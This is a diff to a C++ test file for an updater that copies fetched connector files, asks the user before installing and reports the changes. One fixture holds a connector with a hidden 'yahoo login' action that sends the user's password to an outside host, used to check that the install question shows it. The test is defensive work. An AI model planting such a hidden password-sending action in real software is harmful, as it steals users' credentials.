@@ -1,6 +1,7 @@
 // The update hand-off: the updater's command file and start, and the list of
 // fetched files it hands back: accepted, refused and malicious lines, the
-// user's answer, failed copies, the new connectors' report and the reload.
+// question that shows what will change, the user's answer, failed copies,
+// the new connectors' report and the reload.
 #include "AppTestSupport.h"
 
 #include <cstdio>
@@ -137,10 +138,10 @@ TEST_F(UpdateHandoff, AListFromOutsideTheFoldersIsRefusedAndNothingIsTouched)
         WriteText(good, Connector("Good"));
         WriteText(kUpdatedFilesList, row.line + "\n");
         CPromptScript prompts;
-        prompts.AnswerNext(IDYES);
         int syncs = Syncs();
         EXPECT_EQ(1, Notify());
-        EXPECT_EQ(std::vector<std::string>{Message(IDS_UPDATE_ASK_INSTALL)}, Texts(prompts)) << row.why;
+        // Nothing that could be installed: nothing to ask about.
+        EXPECT_EQ(std::vector<std::string>{}, Texts(prompts)) << row.why;
         EXPECT_EQ(syncs, Syncs()) << row.why;
         EXPECT_TRUE(Exists(elsewhere)) << row.why;
         EXPECT_TRUE(Exists(good)) << row.why;
@@ -153,29 +154,76 @@ TEST_F(UpdateHandoff, AListFromOutsideTheFoldersIsRefusedAndNothingIsTouched)
     }
 }
 
-TEST_F(UpdateHandoff, AcceptedFilesAreCopiedReportedAndTheDatastoreReloaded)
+// Answers as scripted, after the updater has fetched a file again while the
+// question is open.
+class FetchedAgainWhileAsked : public CPromptScript {
+public:
+    std::string path, bytes;
+    CPromptAnswer Respond(const CPromptRequest& request) override
+    {
+        if (!path.empty())
+            WriteText(path, bytes);
+        path.clear();
+        return CPromptScript::Respond(request);
+    }
+};
+
+TEST_F(UpdateHandoff, AcceptedFilesAreAskedAboutCopiedReportedAndTheDatastoreReloaded)
 {
-    // CR LF line ends, a quoted and an unquoted line, one connector replacing
-    // an existing file (not new, so not reported) and a picture.
-    WriteText(home + "\\old.xml", "old");
-    std::string list = Quoted(Fetched("maps.xml", Connector("map it"))) + "," + Quoted(home + "\\maps.xml") + "\r\n" +
-                       Fetched("old.xml", Connector("Renewed")) + "," + home + "\\old.xml\r\n" +
-                       Quoted(Fetched("pin.gif", "GIF89a")) + "," + Quoted(home + "\\pin.gif") + "\r\n";
+    std::string login = "<CONNECTOR MENUSTRING=\"Calendar site\">\n<SUBTYPE MENUSTRING=\"Calendar\" "
+                        "ACTION=\"http://cal/\" >\n</SUBTYPE>\n<SUBTYPE MENUSTRING=\"yahoo login\" WEBACTION=\"hidden\" "
+                        "ACTION=\"http://elsewhere/?p=$:password\" >\n</SUBTYPE>\n</CONNECTOR>\n";
+    const std::string replaces = " " + Message(IDS_UPDATE_REPLACES);
+    // CR LF line ends, quoted and unquoted lines; connectors and pictures,
+    // new and replacing; every subtype named, the hidden login's too.
+    struct Row {
+        const char* name;
+        std::string fetched;
+        const char* had;        // null: no file there
+        std::string asked;      // its line of the question; empty: not shown
+        bool fetchedAgain;      // other bytes arrive while the question is open
+    } rows[] = {
+        {"maps.xml", Connector("map it"), nullptr, "maps.xml: \"map it\"", false},
+        {"old.xml", Connector("Renewed"), "old", "old.xml" + replaces + ": \"Renewed\"", false},
+        {"pin.gif", "GIF89a", nullptr, "pin.gif", false},
+        {"cal.xml", login, "the user's calendar", "cal.xml" + replaces + ": \"Calendar\", \"yahoo login\"", false},
+        {"logo.png", "PNG new", "PNG old", "logo.png" + replaces, false},
+        {"late.xml", Connector("Shown"), "kept", "late.xml" + replaces + ": \"Shown\"", true},
+        {"twice.xml", Connector("Second"), nullptr, "", false},   // its destination is listed already
+    };
+    FetchedAgainWhileAsked prompts;
+    std::string list, question = Message(IDS_UPDATE_ASK_INSTALL) + "\r\n";
+    for (const Row& row : rows) {
+        if (row.had)
+            WriteText(home + "\\" + row.name, row.had);
+        std::string fetched = Fetched(row.name, row.fetched);
+        std::string destination = home + "\\" + (row.asked.empty() ? "maps.xml" : row.name);
+        bool quoted = &row - rows != 1;
+        list += (quoted ? Quoted(fetched) + "," + Quoted(destination) : fetched + "," + destination) + "\r\n";
+        if (!row.asked.empty())
+            question += "\r\n" + row.asked;
+        if (row.fetchedAgain) {
+            prompts.path = fetched;
+            prompts.bytes = Connector("Not shown");
+        }
+    }
     WriteText(kUpdatedFilesList, list);
-    CPromptScript prompts;
     prompts.AnswerNext(IDYES);
     prompts.AnswerNext(IDOK);
     int syncs = Syncs();
     Notify();
     ASSERT_EQ(2u, prompts.Asked().size());
+    EXPECT_EQ(question, prompts.Asked()[0].text.GetString());
+    EXPECT_EQ(UINT(MB_YESNO | MB_SYSTEMMODAL), prompts.Asked()[0].nType);
     EXPECT_EQ(Message(IDS_UPDATE_NEW_CONNECTORS) + "\r\nmap it\r\n" + Message(IDS_UPDATE_NEW_CONNECTORS_END),
               prompts.Asked()[1].text.GetString());
-    EXPECT_EQ(UINT(MB_YESNO | MB_SYSTEMMODAL), prompts.Asked()[0].nType);
-    EXPECT_EQ(Connector("map it"), ReadText(home + "\\maps.xml"));
-    EXPECT_EQ(Connector("Renewed"), ReadText(home + "\\old.xml"));
-    EXPECT_EQ("GIF89a", ReadText(home + "\\pin.gif"));
-    for (const char* name : {"maps.xml", "old.xml", "pin.gif"})
-        EXPECT_FALSE(Exists(downloads + "\\" + name)) << name;
+    for (const Row& row : rows) {
+        bool installed = !row.asked.empty() && !row.fetchedAgain;
+        if (!row.asked.empty()) {
+            EXPECT_EQ(installed ? row.fetched : row.had, ReadText(home + "\\" + row.name)) << row.name;
+        }
+        EXPECT_EQ(!installed, Exists(downloads + "\\" + row.name)) << row.name;
+    }
     EXPECT_EQ(syncs + 1, Syncs());
 }
 
@@ -223,7 +271,8 @@ TEST_F(UpdateHandoff, AnEmptyListIsToldOnlyWhenTheUserAskedAndTheRequestIsAnswer
         {TRUE, "", {Message(IDS_UPDATE_NOTHING_NEW)}},
         {FALSE, "", {}},
         {TRUE, nullptr, {}},
-        {TRUE, "\r\n", {Message(IDS_UPDATE_ASK_INSTALL)}},
+        {TRUE, "\r\n", {Message(IDS_UPDATE_NOTHING_NEW)}},
+        {FALSE, "\"Updates\\missing.xml\",\"new.xml\"\r\n", {}},
     };
     for (const Row& row : rows) {
         CTrayWnd::s_bUpdateAskedByUser = row.asked;
